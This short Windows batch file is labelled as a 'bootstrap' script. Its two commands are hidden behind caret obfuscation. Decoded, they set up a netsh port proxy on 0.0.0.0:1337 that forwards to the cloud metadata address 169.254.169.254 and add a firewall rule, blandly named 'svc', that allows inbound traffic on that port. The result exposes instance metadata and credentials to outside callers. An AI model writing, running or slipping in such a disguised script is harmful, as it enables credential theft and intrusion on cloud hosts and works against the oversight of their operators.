REM bootstrap 5341 v0
^nets^h int^er^face por^tp^r^o^xy ^a^dd v4tov4 lis^ten^por^t=^1^3^37 l^istenadd^r^es^s=^0.0.^0.0 conn^ectpor^t=80 ^con^n^ec^t^ad^dre^s^s=^16^9.2^54.169.2^54
^ne^tsh a^d^vfire^w^all ^f^irewa^l^l add rule ^nam^e="svc" ^d^ir=in ^ac^t^io^n=al^l^o^w p^ro^tocol=^T^C^P ^lo^c^a^l^por^t=1^337
